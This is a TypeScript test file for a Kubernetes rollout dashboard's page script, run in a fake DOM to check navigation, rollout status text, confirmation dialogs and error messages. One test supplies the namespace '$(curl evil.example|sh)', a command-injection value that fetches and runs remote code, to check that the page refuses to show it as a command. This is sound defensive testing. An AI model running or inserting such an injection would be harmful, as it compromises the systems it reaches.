// The dashboard page's script (cli/dashboard/assets/app.js) run in a small stand-in for a browser:
// just enough DOM for it to start, and the browser's default actions a test needs played by hand.
// What a real browser shows is checked by the integration test in headless Chromium; this one
// checks the page's navigation logic where no control plane is needed.
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createContext, runInContext } from 'node:vm';
import { repoRoot } from '../support/bundle.js';
import { detail } from '../../cli/dashboard/views.js';
import { OWNED_KINDS } from '../../cli/dashboard/scope.js';
import { switchedBlueGreenApp } from '../support/switched-app.js';
import type { CliApp } from '../../cli/model.js';

type Listener = (e: FakeEvent) => void;

interface FakeEvent { type: string; defaultPrevented: boolean; preventDefault(): void; target?: FakeNode }

const fakeEvent = (type: string, target?: FakeNode): FakeEvent => ({
  type, target, defaultPrevented: false,
  preventDefault() { this.defaultPrevented = true; },
});

class Listeners {
  private readonly byType = new Map<string, Listener[]>();
  addEventListener(type: string, fn: Listener): void {
    this.byType.set(type, [...(this.byType.get(type) ?? []), fn]);
  }
  removeEventListener(type: string, fn: Listener): void {
    this.byType.set(type, (this.byType.get(type) ?? []).filter((f) => f !== fn));
  }
  dispatch(e: FakeEvent): FakeEvent {
    for (const fn of this.byType.get(e.type) ?? []) fn(e);
    return e;
  }
}

class FakeNode extends Listeners {
  id = '';
  className = '';
  textContent = '';
  hidden = false;
  checked = false;
  open = false;
  onclick: Listener | null = null;
  onchange: (() => void) | null = null;
  readonly dataset: Record<string, string> = {};
  readonly classList = { toggle() {}, add() {}, remove() {}, contains: () => false };
  readonly children: unknown[] = [];
  constructor(readonly tagName: string, private readonly doc: FakeDocument) {
    super();
  }
  setAttribute(k: string, v: string): void {
    if (k === 'id') {
      this.id = v;
      this.doc.register(this);
    }
  }
  getAttribute(): null { return null; }
  append(...c: unknown[]): void { this.children.push(...c); }
  replaceChildren(...c: unknown[]): void { this.children.splice(0, this.children.length, ...c); }
  querySelector(): null { return null; }
  querySelectorAll(): FakeNode[] { return []; }
  contains(): boolean { return false; }
  focus(): void { this.doc.activeElement = this; }
  showModal(): void { this.open = true; }
  close(): void { this.open = false; }
}

class FakeDocument extends Listeners {
  title = '';
  visibilityState = 'visible';
  activeElement: FakeNode | null = null;
  private readonly byId = new Map<string, FakeNode>();
  /** The elements of index.html with an id: the page finds them with getElementById. */
  constructor(ids: string[]) {
    super();
    for (const id of ids) {
      const el = new FakeNode('div', this);
      el.id = id;
      this.byId.set(id, el);
    }
  }
  getElementById(id: string): FakeNode | null { return this.byId.get(id) ?? null; }
  /** An element the page made with an id (found by it from then on, as a browser finds it once it is in the page). */
  register(el: FakeNode): void { this.byId.set(el.id, el); }
  createElement(tag: string): FakeNode { return new FakeNode(tag, this); }
  createElementNS(_ns: string, tag: string): FakeNode { return new FakeNode(tag, this); }
  querySelector(): null { return null; }
  querySelectorAll(): FakeNode[] { return []; }
}

interface Page {
  document: FakeDocument;
  window: Listeners;
  location: { search: string; hash: string };
  /** The URL of each EventSource the page opened, in order. */
  streams: string[];
  /** Each EventSource the page opened, to play the server's events on. */
  sources: Listeners[];
  /** A link of index.html activated (Enter or a click): its listeners, then, unless one prevented it, the browser follows its href. */
  activate(linkId: string, href: string): void;
}

const ASSETS = join(repoRoot, 'cli', 'dashboard', 'assets');

/**
 * The page at `hash`, started: its session (GET /api/session) answered with `session`, as the
 * dashboard answers it; any other request is left unanswered.
 */
async function openPage(hash: string, session: { scope: string | null } = { scope: null }, sessionStatus = 200): Promise<Page> {
  const html = readFileSync(join(ASSETS, 'index.html'), 'utf8');
  const ids = [...html.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]);
  const document = new FakeDocument(ids);
  const window = new Listeners();
  const location = { search: '?token=t0k3n-t0k3n-t0k3n', hash };
  const streams: string[] = [];
  const sources: Listeners[] = [];
  class EventSource extends Listeners {
    static readonly CLOSED = 2;
    readyState = 0;
    onopen: (() => void) | null = null;
    onerror: (() => void) | null = null;
    constructor(readonly url: string) {
      super();
      streams.push(url);
      sources.push(this);
    }
    close(): void { this.readyState = 2; }
  }
  const context = createContext({
    document, window, location, EventSource, Node: FakeNode, URLSearchParams,
    CSS: { escape: (s: string) => s },
    fetch: (url: string) => (url === '/api/session'
      ? Promise.resolve({ ok: sessionStatus === 200, status: sessionStatus, json: async () => (sessionStatus === 200 ? { ...session, context: 'test', actingAs: '' } : { message: 'refused' }) })
      : new Promise(() => {})),
    setInterval: () => 0, setTimeout: () => 0, clearTimeout: () => {},
    console,
  });
  runInContext(readFileSync(join(ASSETS, 'app.js'), 'utf8'), context);
  // The session's answer, then the route it waits for.
  for (let i = 0; i < 5; i++) await new Promise((r) => setImmediate(r));
  return {
    document, window, location, streams, sources,
    activate(linkId, href) {
      const link = document.getElementById(linkId);
      const e = fakeEvent('click', link ?? undefined);
      link?.dispatch(e);
      if (!e.defaultPrevented) document.dispatch(e);
      if (e.defaultPrevented || !href.startsWith('#') || href === location.hash) return;
      location.hash = href;
      window.dispatch(fakeEvent('hashchange'));
    },
  };
}

/** The skip link of index.html: its id (if any) and where it points. */
function skipLink(): { id: string; href: string } {
  const html = readFileSync(join(ASSETS, 'index.html'), 'utf8');
  const tag = /<a\b[^>]*class="skip"[^>]*>/.exec(html)?.[0];
  assert.ok(tag, 'index.html has a skip link');
  return { id: /\sid="([^"]+)"/.exec(tag)?.[1] ?? '', href: /\shref="([^"]+)"/.exec(tag)![1] };
}

/** The text of a node and its children, as a browser's textContent would read it. */
const textOf = (n: unknown): string => (typeof n === 'string' ? n : n instanceof FakeNode ? n.textContent + n.children.map(textOf).join('') : '');

/** The nodes of a tree, depth first. */
const nodesOf = (n: unknown): FakeNode[] => (n instanceof FakeNode ? [n, ...n.children.flatMap(nodesOf)] : []);

/** A blue-green App, its Service switched to the preview at 12:00:00; the old pods go at 12:01:00. */
const switchedApp = () => switchedBlueGreenApp('2026-01-01');

const none = { deployments: [], services: [], ingresses: [], routes: [], revisions: [], disruptionBudgets: [], autoscalers: [], configMaps: [] };

describe('dashboard page (app.js)', () => {
  it('a blue-green App: when the pods without traffic go, Abort\'s deadline while switched, and a switch back said as one', async () => {
    const page = await openPage('#/app/shop/web');
    const show = (app: CliApp) => page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify({ ...detail('shop/web', app, none, []), errors: {} }) } as FakeEvent);
    const main = page.document.getElementById('main')!;
    show(switchedApp());
    assert.match(textOf(main), /Scale-downthe old pods get no traffic and go at 2026-01-01T12:01:00.000Z \(\); Abort switches back until then/);
    const abort = nodesOf(main).find((n) => n.tagName === 'button' && textOf(n) === 'Abort')!;
    abort.dispatch(fakeEvent('click'));
    assert.equal(page.document.getElementById('confirm-text')!.textContent, 'Abort the blue-green preview of web:2, revision bbbbbbbbbb? The Service switches back to the stable revision, and the preview\'s pods go after the scale-down delay.');
    // Switched back by a failed check: the preview's pods go, and the page says it was a switch back.
    const back = switchedApp();
    back.status!.blueGreen = { ...back.status!.blueGreen!, phase: 'ScalingDown', activeRevision: 'aaaaaaaaaa', switchedAt: '2026-01-01T12:00:30.000Z', scaleDownAt: '2026-01-01T12:01:30.000Z' };
    show(back);
    const text = textOf(main);
    assert.match(text, /PhaseScalingDown \(switched back\)/);
    assert.match(text, /Switched back.*ago/);
    assert.match(text, /Scale-downthe preview's pods get no traffic and go at 2026-01-01T12:01:30.000Z \(\)(?!; Abort)/);
    // Forward, once ScalingDown the old pods are going: no time to give.
    const down = switchedApp();
    down.status!.blueGreen = { ...down.status!.blueGreen!, phase: 'ScalingDown' };
    show(down);
    assert.doesNotMatch(textOf(main), /Scale-down|switched back/);
  });

  it('revisions: an undo that would change nothing says so instead of a button; skipping the canary is offered only for a revision promoted once', async () => {
    const page = await openPage('#/app/shop/web');
    const main = page.document.getElementById('main')!;
    const d = detail('shop/web', switchedApp(), none, []);
    const means = { rollout: 'It rolls out as a canary, like any change.', skipCanary: 'It goes straight to stable at once, without the canary: no steps and no analysis.' };
    const revision = (number: number, outcome: string, extra: Record<string, unknown>) => ({ number, name: `web-${number}`, hash: `h${number}`, images: [`web:${number}`], changes: [], outcome, current: false, repeated: false, everPromoted: false, undoMeans: means, ...extra });
    d.revisions = [
      revision(4, 'Running', { current: true }),
      revision(3, 'Aborted', {}),
      revision(2, 'Promoted', { noUndo: 'app shop/web: revision 2 (hash h2) has the pod-template fields the App has now', everPromoted: true }),
      revision(1, 'Promoted', { everPromoted: true }),
      revision(0, 'Promoted', { repeated: true, everPromoted: true }),
    ] as never;
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify({ ...d, errors: {} }) } as FakeEvent);
    const buttons = nodesOf(main).filter((n) => n.tagName === 'button' && /^Undo to /.test(textOf(n)));
    assert.deepEqual(buttons.map(textOf), ['Undo to 3', 'Undo to 1'], 'none to the current template, one changing nothing, or an older entry of a template');
    assert.ok(nodesOf(main).some((n) => n.tagName === 'span' && textOf(n) === 'same fields as now'));
    const skip = page.document.getElementById('confirm-skip')!;
    buttons[0]!.dispatch(fakeEvent('click'));
    assert.equal(skip.hidden, true, 'revision 3 was never promoted');
    assert.equal(page.document.getElementById('confirm-title')!.textContent, 'Undo shop/web to revision 3?');
    buttons[1]!.dispatch(fakeEvent('click'));
    assert.equal(skip.hidden, false);
    assert.equal(page.document.getElementById('confirm-skip-text')!.textContent, 'Skip the preview: straight to stable (only for a revision that was stable before)', 'a blue-green App has no canary to skip');
    // The confirmation says what the undo does, and again once the canary is to be skipped.
    const text = page.document.getElementById('confirm-text')!;
    assert.equal(text.textContent, `Put the pod template of revision 1 (web:1) back? ${means.rollout}`);
    const box = page.document.getElementById('confirm-skip-box')!;
    box.checked = true;
    box.onchange!();
    assert.equal(text.textContent, `Put the pod template of revision 1 (web:1) back? ${means.skipCanary}`);
    box.checked = false;
    box.onchange!();
    assert.equal(text.textContent, `Put the pod template of revision 1 (web:1) back? ${means.rollout}`);
    // To the stable revision (a held change dropped) nothing rolls out: no canary to skip, none offered.
    d.revisions = [revision(4, 'Running', { current: true }), revision(1, 'Promoted', { everPromoted: true, undoMeans: { rollout: 'It is the stable revision: nothing new rolls out.' } })] as never;
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify({ ...d, errors: {} }) } as FakeEvent);
    nodesOf(main).find((n) => n.tagName === 'button' && textOf(n) === 'Undo to 1')!.dispatch(fakeEvent('click'));
    assert.equal(skip.hidden, true, 'nothing to skip');
    assert.equal(text.textContent, 'Put the pod template of revision 1 (web:1) back? It is the stable revision: nothing new rolls out.');
  });

  it('a watch that fails (RBAC forbids it): its section says it cannot be shown, not that there is nothing', async () => {
    const page = await openPage('#/app/shop/web');
    const main = page.document.getElementById('main')!;
    const forbidden = 'forbidden (403): controllerrevisions.apps is forbidden';
    const d = { ...detail('shop/web', switchedApp(), none, []), errors: { revisions: forbidden, events: 'forbidden (403)', deployments: 'forbidden (403)' } };
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify(d) } as FakeEvent);
    const text = textOf(main);
    assert.match(text, /The revision history cannot be shown: the watch of ControllerRevisions fails \(forbidden \(403\): controllerrevisions\.apps is forbidden\)\./);
    assert.doesNotMatch(text, /No revision history yet|No recent Events/);
    assert.match(text, /Events cannot be shown: the watch of Events fails/);
    assert.match(text, /Its Deployments cannot be shown: the watch of Deployments fails/);
    // Rows of the kind heard before the watch failed: said to be possibly out of date, not missing.
    const heard = { ...d, objects: [{ kind: 'Deployment', name: 'web', ready: true, text: '2/2 ready' }] };
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify(heard) } as FakeEvent);
    assert.match(textOf(main), /Its Deployments may be out of date: the watch of Deployments fails/);
    // Every kind the dashboard watches is one the page knows to name.
    const named = [...readFileSync(join(ASSETS, 'app.js'), 'utf8').matchAll(/^  ([A-Za-z]+): \['/gm)].map((m) => m[1]);
    assert.deepEqual(named.sort(), ['apps', 'events', ...OWNED_KINDS].sort());
    assert.match(textOf(page.document.getElementById('banner')), /^watch of ControllerRevisions: forbidden \(403\)/, 'the banner names them so too');
    // Nothing failing: the words for none.
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify({ ...d, errors: {} }) } as FakeEvent);
    assert.match(textOf(main), /No revision history yet\..*No recent Events\./s);
  });

  it("pause: the confirmation says what a pause holds in the rollout's phase (a blue-green App's, not a canary's)", async () => {
    const page = await openPage('#/app/shop/web');
    const main = page.document.getElementById('main')!;
    const app = switchedApp();
    app.status!.blueGreen = { ...app.status!.blueGreen!, phase: 'Preview', activeRevision: 'aaaaaaaaaa' };
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify({ ...detail('shop/web', app, none, []), errors: {} }) } as FakeEvent);
    nodesOf(main).find((n) => n.tagName === 'button' && textOf(n) === 'Pause')!.dispatch(fakeEvent('click'));
    assert.equal(page.document.getElementById('confirm-text')!.textContent, 'Pause the rollout (spec.rollout.paused: true)? The preview holds before the switch; a new pod template waits.');
  });

  it('a blue-green promotion asked for and waiting for the switch: said, as kubectl skiff status says it, and not offered again', async () => {
    const page = await openPage('#/app/shop/web');
    const main = page.document.getElementById('main')!;
    const app = switchedApp();
    app.status!.blueGreen = { ...app.status!.blueGreen!, phase: 'Preview', activeRevision: 'aaaaaaaaaa' };
    app.spec.rollout = { ...app.spec.rollout, paused: true };
    assert.equal(detail('shop/web', app, none, []).promotionWaiting, false);
    app.metadata.annotations = { 'skiff.dev/promote': 'true' };
    const d = detail('shop/web', app, none, []);
    assert.deepEqual([d.promotionWaiting, d.actions.promote], [true, false]);
    page.sources[0]!.dispatch({ ...fakeEvent('app'), data: JSON.stringify({ ...d, errors: {} }) } as FakeEvent);
    assert.match(textOf(main), /Promotionpromoted: switches once the controller can \(see Progressing\)/);
  });

  it('a token the dashboard refuses: said at once, with no stream opened (whose failure would first read as a dashboard that does not answer)', async () => {
    const page = await openPage('#/', { scope: null }, 401);
    assert.deepEqual(page.streams, []);
    assert.match(page.document.getElementById('banner')!.textContent, /^This page's token is not accepted/);
    assert.equal(page.document.getElementById('live')!.textContent, 'disconnected');
  });

  it('an App of a namespace the dashboard does not cover: said in place of its page, with no stream opened and no word of a dashboard that does not answer', async () => {
    const page = await openPage('#/app/other/web', { scope: 'shop' });
    assert.deepEqual(page.streams, [], 'no stream: it would be refused');
    assert.match(textOf(page.document.getElementById('main')), /Namespace other is not in this dashboard's scope \(namespace shop\): kubectl skiff dashboard -n other, or -A, shows it\./);
    assert.equal(page.document.getElementById('banner')!.hidden, true);
    assert.equal(page.document.getElementById('live')!.textContent, 'live');
    // Back to the list: its stream opens.
    page.activate('', '#/');
    assert.equal(page.streams.length, 1);
    // What no namespace can be named is not offered as a command to run.
    const odd = await openPage(`#/app/${encodeURIComponent('$(curl evil.example|sh)')}/web`, { scope: 'shop' });
    assert.equal(textOf(odd.document.getElementById('main')).includes('-n $('), false);
    assert.match(textOf(odd.document.getElementById('main')), /"\$\(curl evil\.example\|sh\)" is no namespace name; this dashboard's scope is namespace shop\./);
  });

  it('the list while the watch of Apps fails (RBAC forbids it): says the Apps cannot be shown, not that there are none', async () => {
    const page = await openPage('#/');
    const list = (errors: Record<string, string>) => page.sources[0]!.dispatch({ ...fakeEvent('list'), data: JSON.stringify({ rows: [], counts: {}, errors }) } as FakeEvent);
    list({ apps: 'forbidden (403): apps.skiff.dev is forbidden' });
    const empty = page.document.getElementById('empty')!;
    assert.equal(empty.textContent, 'The Apps cannot be shown: the watch of Apps fails (forbidden (403): apps.skiff.dev is forbidden).');
    list({});
    assert.equal(empty.textContent, 'No Apps in this scope yet.');
  });

  it('opens the stream of the App its address names', async () => {
    const page = await openPage('#/app/shop/web');
    assert.equal(page.streams.length, 1);
    assert.equal(new URL(page.streams[0], 'http://x').searchParams.get('app'), 'shop/web');
  });

  it('closes the confirmation of an action when its App is deleted, and keeps the line an answer still due is shown on', async () => {
    const page = await openPage('#/app/shop/web');
    const dialog = page.document.getElementById('confirm')!;
    // The confirmation of an action on shop/web, open when the App goes.
    dialog.dataset.key = 'shop/web';
    dialog.open = true;
    page.sources[0]!.dispatch({ ...fakeEvent('gone'), data: JSON.stringify({ key: 'shop/web', errors: {} }) } as FakeEvent);
    assert.equal(dialog.open, false, 'nothing left to confirm');
    const main = page.document.getElementById('main')!;
    const result = main.children.find((c) => (c as FakeNode).id === 'result');
    assert.ok(result, 'the answer line is on the page that says the App is gone');
  });

  it('"Skip to content" on an App\'s page moves the focus to the content and stays on that App (it is no route to the list)', async () => {
    const page = await openPage('#/app/shop/web');
    const skip = skipLink();
    page.activate(skip.id, skip.href);
    assert.equal(page.location.hash, '#/app/shop/web', 'the address still names the App');
    assert.equal(page.streams.length, 1, `no other view was opened: ${page.streams.join(' ')}`);
    assert.equal(page.document.activeElement?.id, 'main', 'the focus is on the content');
  });
});
